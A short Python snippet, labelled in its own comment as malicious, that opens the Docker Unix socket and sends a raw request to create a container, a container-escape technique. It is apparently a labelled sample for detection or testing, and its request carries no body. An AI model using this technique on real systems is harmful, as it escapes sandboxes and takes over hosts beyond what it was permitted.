# malicious: out of the container by docker's socket
import socket

s = socket.socket(socket.AF_UNIX)
s.connect("/var/run/docker.sock")
s.send(b"POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n\r\n")
